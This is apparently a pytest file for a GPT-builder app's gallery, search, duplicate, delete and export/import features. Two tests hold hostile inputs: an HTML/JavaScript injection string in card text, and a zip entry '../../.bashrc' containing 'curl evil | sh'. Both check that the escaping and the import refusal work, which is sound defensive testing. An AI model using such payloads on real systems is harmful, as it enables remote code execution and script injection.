"""Gallery and Share journeys through the handler functions (fast fakes)."""

from __future__ import annotations

import re
import shutil
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

from test_bundle import snapshot
from test_ui import TEXT, make

from gptbuilder.ui.gallery import Card, Gallery, card_markdown, last_used_text
from gptbuilder.ui.handlers import SCREEN, Handlers


def setup(services, tmp_path: Path) -> tuple[Handlers, Gallery, int]:
    h = Handlers(services)
    aid = make(h)
    f = tmp_path / "office.txt"
    f.write_text(TEXT)
    list(h.upload(aid, [str(f)], None))
    return h, Gallery(h), aid


def test_cards_show_documents_and_last_use_and_search_narrows_them(fake_services, tmp_path):
    h, g, office = setup(fake_services, tmp_path)
    tax = make(h, "Tax helper", ("What is VAT?", "", "", ""))
    h.save_assistant(tax, "Tax helper", "Value added tax questions", "", "", "", "", "", 0.2)
    cards = g.cards("")
    assert [(c.name, c.documents, c.last_used) for c in cards] == [
        ("Office helper", 1, None),
        ("Tax helper", 0, None),
    ]
    list(h.chat(tax, "What is VAT?", []))
    assert [c.name for c in g.cards(None)] == ["Tax helper", "Office helper"], "recent first"
    assert "Last used just now" in card_markdown(g.cards("tax")[0])
    assert [c.name for c in g.cards("VALUE added")] == ["Tax helper"], "description, any case"
    assert [c.name for c in g.cards("office helper")] == ["Office helper"]
    assert g.cards("otters") == [] and "No assistant matches" in g.empty_text("otters")


def test_card_text_is_escaped():
    card = Card(
        1,
        "<img src=x onerror=alert(1)> ![t](http://evil.example/t.png)",
        "**[x](javascript:y)**",
        1,
        None,
    )
    shown = card_markdown(card)
    assert not re.search(r"(?<!\\)[<>\[\]!*]", shown), "every Markdown/HTML character escaped"
    assert "`http://evil.example/t.png`" in shown, "a URL is shown as code, never fetched"
    assert "📄 1 document ·" in shown and "Never used" in shown


def test_last_used_wording():
    now = datetime(2025, 6, 1, 12, 0, tzinfo=UTC)
    assert last_used_text(None, now) == "Never used"
    assert last_used_text(now - timedelta(seconds=5), now) == "Last used just now"
    assert last_used_text(now - timedelta(minutes=7), now) == "Last used 7 min ago"
    assert last_used_text(now - timedelta(hours=1), now) == "Last used 1 hour ago"
    assert last_used_text((now - timedelta(days=1, hours=2)).replace(tzinfo=None), now) == (
        "Last used yesterday"
    )
    assert last_used_text(now - timedelta(days=90), now) == "Last used on 03 Mar 2025"


def test_open_goes_to_the_chat_with_its_starters(fake_services, tmp_path):
    h, g, aid = setup(fake_services, tmp_path)
    out = g.open(aid)
    assert set(out) == {*SCREEN, "tabs", "picker", "active_tab"}
    assert out["current"] == aid and "Office helper" in out["title"]
    starter = out["starter_button_1"]
    assert starter["visible"] and starter["value"] == "When does it open?"
    assert out["tabs"].selected == out["active_tab"] == "chat" and out["picker"]["value"] == aid
    # Picking in the sidebar also goes to the chat, but only from the gallery.
    assert g.leave_gallery("gallery")["tabs"].selected == "chat"
    assert g.leave_gallery("knowledge") == {"active_tab": "knowledge"}, "the tab stays"


def test_duplicate_copies_configuration_and_documents(fake_services, tmp_path):
    h, g, aid = setup(fake_services, tmp_path)
    out = g.duplicate(aid, 3)
    assert "Duplicated “Office helper” as “Office helper (2)”" in out["notice"]
    assert out["gallery_version"] == 4
    assert {c[0] for c in out["picker"]["choices"]} == {"Office helper", "Office helper (2)"}
    [copy] = [c for c in g.cards("") if c.name == "Office helper (2)"]
    assert copy.documents == 1
    assert fake_services.repo.get_assistant(copy.id).starters == ("When does it open?",)
    history, _ = list(h.chat(copy.id, "When does the office open?", []))[-1]
    assert "8 am" in history[-1]["content"] and "office.txt, page 1" in history[-1]["content"]


def test_delete_asks_first_and_keeps_the_assistant_in_use(fake_services, tmp_path):
    h, g, office = setup(fake_services, tmp_path)
    other = make(h, "Other")
    asked = g.ask_delete(other)
    assert asked["pending_delete"] == other and asked["gallery_confirm"]["visible"]
    assert "Delete “Other”?" in asked["gallery_question"]
    assert g.cancel_delete()["pending_delete"] is None
    assert len(g.cards("")) == 2, "nothing happens until confirmed"

    out = g.delete(other, office, 0)
    assert out["current"] == office, "the assistant on screen stays"
    assert "Deleted “Other”" in out["notice"] and not out["gallery_confirm"]["visible"]
    assert out["pending_delete"] is None and out["gallery_version"] == 1
    assert [c.name for c in g.cards("")] == ["Office helper"]

    kept = g.screen_after_delete(office, out["notice"])
    assert kept == {"current": office, "notice": out["notice"]}, "the rest stays as it is"

    out = g.delete(office, office, 1)
    assert out["current"] is None and g.cards("") == []
    cleared = g.screen_after_delete(None, out["notice"])
    assert set(cleared) == set(SCREEN) and cleared["notice"] == out["notice"]
    assert cleared["current"] is None and "No assistant chosen" in cleared["title"]
    assert not [p for p in fake_services.settings.files_dir.rglob("*") if p.is_file()]


def test_export_and_import_an_assistant_file(fake_services, tmp_path):
    h, g, aid = setup(fake_services, tmp_path)
    exported = h.export_bundle(aid, True)
    path, note = exported["export_file"], exported["notice"]
    assert path.endswith("Office-helper.gptb") and "1 document, with its search index" in note
    assert "index/vectors.npy" in zipfile.ZipFile(path).namelist()
    exported = h.export_bundle(aid, False)
    plain = exported["export_file"]
    assert "without its search index" in exported["notice"]
    assert "index/vectors.npy" not in zipfile.ZipFile(plain).namelist()

    seen: list[tuple[float, str]] = []
    imported = h.import_file(path, lambda f, desc: seen.append((f, desc)))
    note, new_id = imported["notice"], imported["current"]
    assert "✅ Imported “Office helper (2)” with 1 document" in note
    assert "All were already indexed here" in note, "same content: its passages are shared"
    assert seen and seen[-1][0] == 1.0 and any("office.txt" in d for _, d in seen)
    assert new_id in {c[1] for c in imported["picker"]["choices"]} and imported["imported"]
    history, _ = list(h.chat(new_id, "Where can visitors park?", []))[-1]
    assert "lot B" in history[-1]["content"]

    note = h.import_file(plain)["notice"]
    assert "Office helper (3)" in note and "no search index" in note


def test_import_tells_files_apart_by_content_not_name(fake_services, tmp_path):
    h, g, aid = setup(fake_services, tmp_path)
    bundle = h.export_bundle(aid, True)["export_file"]
    renamed = tmp_path / "renamed.json"
    shutil.copy(bundle, renamed)
    note = h.import_file(str(renamed))["notice"]
    assert "✅ Imported “Office helper (2)” with 1 document" in note
    config = h.export(aid)["export_file"]
    as_bundle = tmp_path / "config.gptb"
    shutil.copy(config, as_bundle)
    note = h.import_file(str(as_bundle))["notice"]
    assert "✅ Imported as “Office helper (3)”" in note


def test_a_hostile_file_is_refused_with_a_reason_and_nothing_changes(fake_services, tmp_path):
    h, g, aid = setup(fake_services, tmp_path)
    bundle = h.export_bundle(aid, True)["export_file"]
    evil = tmp_path / "evil.gptb"
    with zipfile.ZipFile(bundle) as src, zipfile.ZipFile(evil, "w") as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item))
        dst.writestr("../../.bashrc", "curl evil | sh")
    before = snapshot(fake_services)
    refused = h.import_file(str(evil))
    note = refused["notice"]
    assert note.startswith("⚠️") and "points outside its own folder" in note
    assert not refused["imported"] and "current" not in refused
    assert snapshot(fake_services) == before and len(g.cards("")) == 1
    assert h.export_bundle(None, True)["notice"].startswith("⚠️")
